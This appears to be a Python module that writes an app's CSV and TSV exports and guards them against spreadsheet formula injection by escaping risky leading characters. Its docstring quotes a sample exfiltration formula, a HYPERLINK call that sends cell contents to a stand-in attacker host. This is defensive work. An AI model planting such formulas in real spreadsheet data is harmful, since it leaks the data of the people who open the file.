"""Files for spreadsheets: every CSV and TSV the app writes goes through here. Pure.

**Formula injection.** Excel, LibreOffice and Google Sheets run a cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula, and some skip a leading tab or carriage return first. A
citizen's name or a problem's description can start with any of them
(``=HYPERLINK("http://evil.example/?d="&A1)``), and a coordinator opening the export would
run it. :func:`safe_cell` puts an apostrophe in front of such a cell: the spreadsheet shows
the text as typed and runs nothing. One rule for every writer, the strict one: ``-5`` too
becomes ``'-5`` (the files hold no negative numbers), and it does not matter which column or
who typed the value. :func:`plain_cell` undoes it when the app reads its own file back.

**Shape.** The CSV exports are UTF-8 with a byte order mark (so Excel reads the accents
right), comma separated, CRLF line ends (RFC 4180). The tracker's own list is tab-separated
(``casefiles/tracker.py`` decides its shape; its cells are made safe here too).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from collections.abc import Iterator

#: What a spreadsheet may take for the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: The byte order mark at the start of every CSV export.
BOM = "\ufeff"


def safe_cell(value: object) -> str:
    """The value as text that no spreadsheet runs as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def plain_cell(text: str) -> str:
    """A cell read back from one of our files: without the apostrophe :func:`safe_cell` added."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def safe_row(cells: Iterable[object]) -> list[str]:
    return [safe_cell(cell) for cell in cells]


def csv_text(headers: Iterable[object], rows: Iterable[Iterable[object]]) -> str:
    """A whole CSV file: BOM, the header line, one line per row; every cell made safe."""
    return "".join(csv_chunks(headers, rows, rows_per_chunk=0))


def csv_chunks(
    headers: Iterable[object], rows: Iterable[Iterable[object]], *, rows_per_chunk: int = 500
) -> Iterator[str]:
    """The same file a piece at a time (``rows_per_chunk`` rows each; 0: one piece), so a
    long export streams without being held in memory."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    buffer.write(BOM)
    writer.writerow(safe_row(headers))
    for count, row in enumerate(rows, start=1):
        writer.writerow(safe_row(row))
        if rows_per_chunk and count % rows_per_chunk == 0:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()
